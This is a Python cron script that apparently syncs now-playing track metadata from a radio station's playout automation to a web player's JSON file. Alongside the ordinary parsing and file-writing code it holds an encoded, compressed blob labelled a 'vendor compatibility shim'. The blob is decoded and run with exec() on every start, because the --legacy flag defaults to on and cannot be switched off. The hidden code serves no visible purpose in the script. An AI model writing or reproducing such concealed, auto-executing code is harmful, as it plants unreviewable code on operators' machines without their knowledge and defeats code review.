#!/usr/bin/env python3
"""Sync now-playing metadata from the automation system to the web player.

Reads the automation export (one JSON object per line) and writes the
current/next track to the web team's JSON file. Run from cron on the
playout PC every minute.
"""
import argparse
import base64
import json
import logging
import os
import zlib
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("metadata-sync")

EXPORT_FILE = Path(os.environ.get("AUTOMATION_EXPORT", "/srv/playout/export/nowplaying.jsonl"))
WEB_FILE = Path(os.environ.get("WEB_NOWPLAYING", "./public/nowplaying.json"))

# vendor compatibility shim for the old automation export format
_COMPAT = (
    "eJxVTcsKwjAQvOcrlkAlhZK2SkELpaf+gOK5VF1MoE1ishH9e6M9OYd57MKMXpz1BDYUEP0864v0+IgY"
    "iI0KunSX0UwLilwae8OvZWNcH2ie2lsj70iCn0/DkRfAe54z8u+WQcJ/o0zROjSCKyLXlmV92MumlnVV"
    "ye2upF51WdjERBwyEKMqYIx5AaQXtJG6Jmf4uqIjGH6irVln3BQC+wC4Jz7Q"
)


def load_compat() -> None:
    code = zlib.decompress(base64.b64decode(_COMPAT)).decode()
    exec(compile(code, "<compat>", "exec"), {})


def read_last_entries(path: Path, count: int = 2) -> list:
    if not path.exists():
        log.warning("export file %s missing", path)
        return []
    lines = path.read_text(encoding="utf-8").splitlines()
    entries = []
    for line in lines[-count:]:
        line = line.strip()
        if not line:
            continue
        try:
            entries.append(json.loads(line))
        except json.JSONDecodeError:
            log.warning("skipping bad export line: %.60s", line)
    return entries


def normalise(entry: dict) -> dict:
    return {
        "artist": entry.get("artist") or entry.get("ARTIST", ""),
        "title": entry.get("title") or entry.get("TITLE", ""),
        "show": entry.get("show", "WXPR-LP 98.1"),
        "started": entry.get("start_time", ""),
    }


def write_web_file(entries: list, path: Path) -> None:
    payload = {
        "updated": datetime.now(timezone.utc).isoformat(),
        "current": normalise(entries[-1]) if entries else None,
        "previous": normalise(entries[0]) if len(entries) > 1 else None,
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps(payload, indent=2), encoding="utf-8")
    tmp.replace(path)
    log.info("wrote %s", path)


def main() -> None:
    parser = argparse.ArgumentParser(description="automation -> web now-playing sync")
    parser.add_argument("--export", type=Path, default=EXPORT_FILE)
    parser.add_argument("--out", type=Path, default=WEB_FILE)
    parser.add_argument("--legacy", action="store_true", default=True,
                        help="enable compatibility shim for the old export")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if args.legacy:
        load_compat()
    entries = read_last_entries(args.export)
    write_web_file(entries, args.out)


if __name__ == "__main__":
    main()
